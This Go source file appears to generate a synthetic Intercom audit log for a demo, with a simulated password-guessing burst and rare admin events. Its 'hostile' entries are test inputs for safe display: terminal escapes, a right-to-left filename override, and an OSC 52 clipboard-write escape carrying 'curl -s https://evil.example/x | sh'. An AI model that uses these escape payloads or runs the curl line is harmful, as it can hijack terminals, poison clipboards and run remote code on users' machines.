package intercomemu

import (
	"encoding/json"
	"fmt"
	"time"
)

// The entries below are the generated log's landmarks: each happens once or
// in one burst, so an analyst exploring the demo has something to find.

// appNameChange renames the app, about ten days ago.
func (g *generator) appNameChange() Entry {
	a := g.admins[0]
	return Entry{
		CreatedAt:   g.now.AddDate(0, 0, -10).Truncate(time.Hour).Add(14*time.Hour + 7*time.Minute + 31*time.Second),
		PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "app_name_change",
		Metadata:    meta("before", "Acme Support", "after", "Acme Help Center"),
		Description: a.name + " changed your app name from Acme Support to Acme Help Center.",
	}
}

// burst is someone trying passwords against three teammates from one
// unfamiliar address, two days ago at night, and one of them getting in.
func (g *generator) burst() []Entry {
	start := g.now.AddDate(0, 0, -2).Truncate(24 * time.Hour).Add(3*time.Hour + 12*time.Minute)
	var out []Entry
	for i := range 7 {
		a := g.admins[i%3]
		out = append(out, Entry{
			CreatedAt: start.Add(time.Duration(i*40+g.r.IntN(30)) * time.Second), PerformedBy: Admin{a.id, a.email, attackerIP},
			ActivityType: "admin_login_failure", Metadata: meta("sign_in_method", "email_password"),
			Description: "Failed login attempt for " + a.email + ".",
		})
	}
	a := g.admins[1]
	at := start.Add(6 * time.Minute)
	out = append(out,
		Entry{CreatedAt: at, PerformedBy: Admin{a.id, a.email, attackerIP}, ActivityType: "admin_login_success",
			Metadata: meta("sign_in_method", "email_password"), Description: a.name + " successfully logged in."},
		// The same second: signing in turns away mode off. Ties happen.
		Entry{CreatedAt: at, PerformedBy: Admin{a.id, a.email, attackerIP}, ActivityType: "admin_away_mode_change",
			Metadata:    meta("away_mode", false, "source", "sign_in", "auto_changed", true, "update_by", mustAtoi(a.id), "update_by_name", a.name),
			Description: a.name + " changed their away mode to back."},
		Entry{CreatedAt: at.Add(4 * time.Minute), PerformedBy: Admin{a.id, a.email, attackerIP}, ActivityType: "bulk_export",
			Description: a.name + " exported user and lead data from your app."},
	)
	return out
}

// hostile are entries whose text fields carry terminal escapes, bidi
// overrides and the like: names and titles are typed in by people, and the
// UI must show them without obeying them.
func (g *generator) hostile() []Entry {
	a, b := g.admins[3], g.admins[4]
	clipboard := "\x1b]52;c;" + base64Std("curl -s https://evil.example/x | sh") + "\x07"
	at := func(days int) time.Time {
		return g.now.AddDate(0, 0, -days).Truncate(time.Hour).Add(-time.Duration(g.r.IntN(3600)) * time.Second)
	}
	return []Entry{
		{CreatedAt: at(5), PerformedBy: Admin{"", "\x1b[2J\x1b[Hroot@example.com", attackerIP}, ActivityType: "admin_login_failure",
			Metadata: meta("sign_in_method", "email_password"), Description: "Failed login attempt for \x1b[2J\x1b[Hroot@example.com."},
		{CreatedAt: at(6), PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "message_state_change",
			Metadata:    meta("message", map[string]any{"id": 4242, "title": "Spring sale \x1b]0;pwned\x07"}, "before", "draft", "after", "live"),
			Description: a.name + " changed your Spring sale \x1b]0;pwned\x07 message from draft to live."},
		{CreatedAt: at(8), PerformedBy: Admin{b.id, b.email, b.ip}, ActivityType: "admin_away_mode_change",
			Metadata:    meta("away_mode", true, "away_status_reason", "brb "+clipboard, "source", "web", "update_by", mustAtoi(b.id), "update_by_name", b.name),
			Description: b.name + " changed their away mode to away (brb " + clipboard + ")."},
		{CreatedAt: at(9), PerformedBy: Admin{b.id, b.email, b.ip}, ActivityType: "app_team_creation",
			Metadata:    meta("team", map[string]any{"id": 4400, "name": "Escalations\u202etxt.exe"}),
			Description: b.name + " created the team Escalations\u202etxt.exe."},
		{CreatedAt: at(11), PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "security_settings_change",
			Metadata:    json.RawMessage(`{"setting_type":"security","changes":{"session\u001b[31m_duration_hours":{"before":168,"after":"24\u001b[0m"}}}`),
			Description: a.name + " changed your workspace's security settings."},
	}
}

// rare are the entries an admin looks for and seldom finds: a permission
// change, impersonation consent, settings changed in bulk, and an activity
// type newer than trail's list, which must still be shown.
func (g *generator) rare() []Entry {
	a, c := g.admins[0], g.admins[2]
	day := func(d, h int) time.Time {
		return g.now.AddDate(0, 0, -d).Truncate(24 * time.Hour).Add(time.Duration(h)*time.Hour + time.Duration(g.r.IntN(3600))*time.Second)
	}
	return []Entry{
		{CreatedAt: day(20, 9), PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "admin_permission_change",
			Metadata:    json.RawMessage(`{"before":{"role":"Support agent","inbox_access":"assigned"},"after":{"role":"Admin","inbox_access":"all"}}`),
			Description: fmt.Sprintf("%s changed the permissions of %s.", a.name, c.name)},
		{CreatedAt: day(15, 16), PerformedBy: Admin{c.id, c.email, c.ip}, ActivityType: "admin_impersonation_consent_approved",
			Metadata:    meta("consent_id", 88120, "expired_at", day(8, 16).Format(time.RFC3339)),
			Description: c.name + " allowed Intercom support to access the workspace for 7 days."},
		{CreatedAt: day(12, 11), PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "admin_occupancy_setting_change",
			Metadata:    json.RawMessage(`{"setting_type":"occupancy","changes":{"threshold_minutes":{"before":15,"after":30},"enabled":{"before":false,"after":true}}}`),
			Description: a.name + " changed the teammate status settings."},
		{CreatedAt: day(4, 10), PerformedBy: Admin{c.id, c.email, c.ip}, ActivityType: "fin_ai_agent_setting_change",
			Metadata:    json.RawMessage(`{"setting_type":"fin","changes":{"tone":{"before":"neutral","after":"friendly"}}}`),
			Description: c.name + " changed Fin AI Agent's tone of voice."},
		{CreatedAt: day(3, 15), PerformedBy: Admin{a.id, a.email, a.ip}, ActivityType: "admin_unauthorized_sign_in_method",
			Metadata:    meta("sign_in_method", "email_password"),
			Description: a.name + " tried to log in with a method your workspace does not allow."},
	}
}
